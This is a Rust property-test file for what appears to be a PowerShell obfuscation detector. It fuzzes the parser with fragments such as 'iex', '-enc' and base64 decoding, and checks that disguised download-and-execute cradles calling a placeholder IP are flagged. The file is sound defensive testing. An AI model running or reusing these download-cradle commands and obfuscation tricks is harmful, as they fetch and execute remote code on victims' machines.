//! Texts that nobody wrote: whatever comes, the reader ends, within its limits.

use proptest::prelude::*;

use crate::content::{ContentConfig, Kind, unfold};
use crate::powershell::{NAMES, conditions};

const PIECES: [&str; 64] = [
    "iex ",
    "$a",
    "='x'",
    "+=",
    "(",
    ")",
    "{",
    "}",
    "[char]",
    "[",
    "]",
    "-join",
    "-f",
    "-split",
    "-replace",
    "-bxor",
    ",",
    "|",
    "%",
    "'{0}'",
    "\"",
    "'",
    "`",
    "@'\n",
    "\n'@",
    "$(",
    "@(",
    "${",
    "::",
    ".",
    "..",
    "1",
    "65",
    "0x41",
    ";",
    "\n",
    "&",
    "powershell -enc ",
    "-c ",
    "cmd /c ",
    "dwBoAG8AYQBtAGkA",
    "[Convert]::FromBase64String(",
    "FromBase64String",
    ".Replace(",
    ".ToCharArray()",
    "[array]::Reverse($a)",
    "irm http://a",
    "#",
    "<#",
    "#>",
    " ",
    "^",
    "%a%",
    "set a=",
    "!a:~1,-2!",
    "\\",
    "é",
    "\u{2019}",
    "\u{2013}enc",
    "[scriptblock]::Create(",
    "foreach-object{",
    "$_",
    ".Length",
    "-9223372036854775807",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(if cfg!(debug_assertions) { 2_000 } else { 50_000 }))]

    #[test]
    fn any_text_is_survived(choices in proptest::collection::vec(0..PIECES.len(), 0..60), kind in 0..3_usize) {
        let text: String = choices.iter().map(|choice| PIECES[*choice]).collect();
        let kind = [Kind::Unknown, Kind::Script, Kind::Command][kind];
        let unfolding = unfold(text.as_bytes(), kind, &NAMES, &ContentConfig::default());
        prop_assert!(unfolding.layers.len() <= 64);
        drop(conditions(&unfolding, &ContentConfig::default()));
    }

    #[test]
    fn any_bytes_are_survived(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        drop(unfold(&bytes, Kind::Unknown, &NAMES, &ContentConfig::default()));
    }

    /// However its letters are hidden, a command is what it is.
    #[test]
    fn disguises_change_nothing(cuts in proptest::collection::vec(any::<bool>(), 3), ticks in proptest::collection::vec(any::<bool>(), 30), upper in any::<bool>()) {
        let hide = |word: &str| {
            let mut out = String::new();
            for (at, letter) in word.chars().enumerate() {
                // In front of these letters a back-tick means another character.
                if ticks[at % ticks.len()] && !"0abfnrtvue".contains(letter.to_ascii_lowercase()) {
                    out.push('`');
                }
                out.push(if upper { letter.to_ascii_uppercase() } else { letter });
            }
            out
        };
        let name = if cuts[0] { "&('ie'+'x')".to_owned() } else { hide("iex") };
        let method = if cuts[1] { "('{1}{0}' -f 'String','Download')".to_owned() } else { format!("\"{}\"", hide("DownloadString")) };
        let text = format!("{name} ({} Net.WebClient).{method}('http://203.0.113.7/a')", hide("New-Object"));
        let sids: Vec<u64> = conditions(&unfold(text.as_bytes(), Kind::Script, &NAMES, &ContentConfig::default()), &ContentConfig::default()).iter().map(|told| told.meta.sid).collect();
        prop_assert_eq!(sids, vec![9_403_003], "{}", text);
        let benign = format!("$x = ({} Net.WebClient).{method}('http://203.0.113.7/a'); Write-Host '{name}'", hide("New-Object")).replace("'&('ie'+'x')'", "'iex'");
        prop_assert!(conditions(&unfold(benign.as_bytes(), Kind::Script, &NAMES, &ContentConfig::default()), &ContentConfig::default()).is_empty(), "{}", benign);
    }
}
